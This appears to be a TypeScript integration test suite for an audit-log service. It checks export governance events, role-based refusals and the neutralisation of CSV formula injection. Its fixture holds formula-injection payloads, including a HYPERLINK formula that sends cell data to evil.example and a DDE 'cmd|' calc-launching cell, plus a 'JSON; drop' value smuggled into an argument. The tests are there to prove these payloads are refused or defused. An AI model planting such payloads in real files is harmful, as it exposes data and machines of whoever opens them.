/**
 * Bulk exports are governance events (issue 13, section 1), and CSV cells
 * cannot carry spreadsheet formulas (section 5, defect 7), tried by attack:
 * - every export writes governance.audit.exported with actor, tenant, trace,
 *   filter, format and count, complete or (when the client goes away
 *   mid-stream) with its partial count;
 * - a cell starting with =, +, -, @, tab or CR is exported quoted with a
 *   leading single quote, in every column an attacker can fill.
 */
import { closePools } from "../support/db";
import { startTestServer, tenantFixture, type TenantFixture, type TestServer } from "../support/server";

let server: TestServer;
let t: TenantFixture;
let big: TenantFixture;

const ATTACKS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];

beforeAll(async () => {
  server = await startTestServer();
  t = await tenantFixture(server, "Export governance tenant");
  big = await tenantFixture(server, "Export interrupted tenant");
  // Attacker-controlled text in every free-text column.
  await server.ownerPool.query(
    `insert into warden.audit_events (tenant_id, event_type, category, action, actor_type, actor_id, user_agent, resource_type, resource_id,
       correlation_id, trace_id, service, event_data)
     select $1, 'csv.attack.tried', 'csv', 'tried', 'user', a, a, a, a, left(a, 200), left(a, 200), left(a, 200), jsonb_build_object('v', a)
     from unnest($2::text[]) a`,
    [t.tenantId, ATTACKS],
  );
  // Enough events that a stream cannot fit in the socket buffers.
  await server.ownerPool.query(
    `insert into warden.audit_events (tenant_id, event_type, category, action, actor_type, actor_id, event_data)
     select $1, 'bulk.event.done', 'bulk', 'done', 'service', 'svc', jsonb_build_object('pad', repeat('x', 900), 'g', g)
     from generate_series(1, 30000) g`,
    [big.tenantId],
  );
});

afterAll(async () => {
  await server.close();
  await closePools();
});

async function exportEvents(tenantId: string): Promise<any[]> {
  const { rows } = await server.ownerPool.query(
    `select event_id::text, actor_type::text, actor_id, trace_id, outcome::text, severity::text, resource_type, resource_id, event_data
     from warden.audit_events where tenant_id = $1 and event_type = 'governance.audit.exported' order by recorded_at, event_id`,
    [tenantId],
  );
  return rows;
}

/** RFC 4180 parsing, enough for the test: quoted cells with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

test("an export writes governance.audit.exported with actor, trace, filter, format and count", async () => {
  const before = (await exportEvents(t.tenantId)).length;
  const res = await fetch(`${server.url}/api/v1/audit/export?format=jsonl&event_type=csv.attack.tried`, {
    headers: { authorization: `Bearer ${t.tokens.auditor}`, traceparent: "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01" },
  });
  expect(res.status).toBe(200);
  const lines = (await res.text()).trim().split("\n");
  expect(JSON.parse(lines[lines.length - 1]).manifest.count).toBe(ATTACKS.length);
  const events = await exportEvents(t.tenantId);
  expect(events.length).toBe(before + 1);
  const e = events[events.length - 1];
  expect(e).toMatchObject({ actor_type: "user", actor_id: t.users.auditor, outcome: "success", resource_type: "audit_export", resource_id: "jsonl" });
  expect(e.trace_id).toBe("0af7651916cd43dd8448eb211c80319c");
  expect(e.event_data).toMatchObject({
    operation: "governance.audit.exported",
    filter: { event_type: "csv.attack.tried" },
    format: "jsonl",
    count: ATTACKS.length,
    complete: true,
    proofs: false,
  });

  // CSV and the proofs variant too; an empty result is still an export (count 0).
  expect((await fetch(`${server.url}/api/v1/audit/export?format=csv&event_type=none.such.event`, { headers: { authorization: `Bearer ${t.tokens.owner}` } })).status).toBe(200);
  const proofs = await fetch(`${server.url}/api/v1/audit/export?format=jsonl&proofs=true&event_type=csv.attack.tried`, { headers: { authorization: `Bearer ${t.tokens.admin}` } });
  await proofs.text();
  const after = (await exportEvents(t.tenantId)).slice(-2);
  expect(after[0]).toMatchObject({ actor_id: t.users.owner, resource_id: "csv", event_data: expect.objectContaining({ format: "csv", count: 0, complete: true }) });
  expect(after[1]).toMatchObject({ actor_id: t.users.admin, event_data: expect.objectContaining({ format: "jsonl", proofs: true, count: ATTACKS.length }) });

  // A refused export (bad parameter, wrong role) exported nothing and records nothing.
  const n = (await exportEvents(t.tenantId)).length;
  expect((await fetch(`${server.url}/api/v1/audit/export?format=xml`, { headers: { authorization: `Bearer ${t.tokens.auditor}` } })).status).toBe(400);
  expect((await fetch(`${server.url}/api/v1/audit/export`, { headers: { authorization: `Bearer ${t.tokens.member}` } })).status).toBe(403);
  expect((await exportEvents(t.tenantId)).length).toBe(n);
});

test("an export the client abandons mid-stream is recorded with its partial count, complete=false", async () => {
  const controller = new AbortController();
  const res = await fetch(`${server.url}/api/v1/audit/export?format=jsonl&event_type=bulk.event.done`, {
    headers: { authorization: `Bearer ${big.tokens.auditor}` },
    signal: controller.signal,
  });
  expect(res.status).toBe(200);
  const reader = res.body!.getReader();
  await reader.read(); // the first bytes arrived: the export has started
  controller.abort();
  await reader.cancel().catch(() => undefined);
  let events: any[] = [];
  for (let i = 0; i < 100 && events.length === 0; i++) {
    events = await exportEvents(big.tenantId);
    if (!events.length) await new Promise((r) => setTimeout(r, 100));
  }
  expect(events).toHaveLength(1);
  expect(events[0]).toMatchObject({ actor_id: big.users.auditor, outcome: "failure" });
  expect(events[0].event_data).toMatchObject({ format: "jsonl", complete: false, filter: { event_type: "bulk.event.done" } });
  expect(events[0].event_data.count).toBeGreaterThan(0);
  expect(events[0].event_data.count).toBeLessThan(30000);
});

test("the SQL recorder refuses what is not an export by an entitled role", async () => {
  const c = await server.ownerPool.connect();
  try {
    for (const [role, code] of [["member", "42501"], ["support", "42501"]] as const) {
      await c.query("begin");
      await c.query(
        `select set_config('jwt.claims.tenant_id', $1, true), set_config('jwt.claims.actor_id', $2, true),
                set_config('jwt.claims.actor_type', 'user', true), set_config('jwt.claims.tenant_role', $3, true)`,
        [t.tenantId, t.users[role], role],
      );
      await c.query("set local role warden_visitor");
      await expect(c.query("select warden.record_audit_export('{}', 'jsonl', 1)")).rejects.toMatchObject({ code });
      await c.query("rollback");
    }
    await c.query("begin");
    await c.query(
      `select set_config('jwt.claims.tenant_id', $1, true), set_config('jwt.claims.actor_id', $2, true),
              set_config('jwt.claims.actor_type', 'user', true), set_config('jwt.claims.tenant_role', 'auditor', true)`,
      [t.tenantId, t.users.auditor],
    );
    await c.query("set local role warden_visitor");
    for (const [sql, code] of [
      ["select warden.record_audit_export('{}', 'JSON; drop', 1)", "22023"],
      ["select warden.record_audit_export('{}', 'jsonl', -1)", "22023"],
      ["select warden.record_audit_export('[]', 'jsonl', 1)", "22023"],
    ]) {
      await c.query("savepoint s");
      await expect(c.query(sql)).rejects.toMatchObject({ code });
      await c.query("rollback to savepoint s");
    }
    // the visitor cannot write governance events any other way
    await c.query("savepoint s");
    await expect(c.query("select warden_private.record_governance_event('governance.audit.exported', null, 'x', 'y')")).rejects.toMatchObject({ code: "42501" });
    await c.query("rollback");
  } finally {
    c.release();
  }
});

test("CSV export neutralises formula injection: =, +, -, @, tab and CR starting cells get a quote prefix, quoted", async () => {
  const res = await fetch(`${server.url}/api/v1/audit/export?format=csv&event_type=csv.attack.tried`, { headers: { authorization: `Bearer ${t.tokens.owner}` } });
  expect(res.status).toBe(200);
  const raw = await res.text();
  const rows = parseCsv(raw);
  const header = rows[0];
  const body = rows.slice(1);
  expect(body).toHaveLength(ATTACKS.length);
  const columns = ["actor_id", "user_agent", "resource_type", "resource_id", "correlation_id", "trace_id", "service"].map((c) => header.indexOf(c));
  const seen = new Set<string>();
  for (const row of body) {
    for (const col of columns) {
      const cell = row[col];
      expect(cell.startsWith("'")).toBe(true);
      seen.add(cell.slice(1));
    }
  }
  expect([...seen].sort()).toEqual([...ATTACKS].sort());
  // No cell of the file starts with a formula character outside quotes, and every neutralised cell is quoted.
  for (const a of ATTACKS) expect(raw).toContain(`"'${a.replace(/"/g, '""')}"`);
  for (const line of raw.split("\r\n")) {
    for (const piece of line.split(",")) expect(piece).not.toMatch(/^[=+\-@\t\r]/);
  }
  // JSON cells start with { and stay as they are; a negative-looking value in JSON is inside it.
  const data = body.map((r) => r[header.indexOf("event_data")]);
  expect(data.every((d) => d.startsWith('{"v"'))).toBe(true);
});
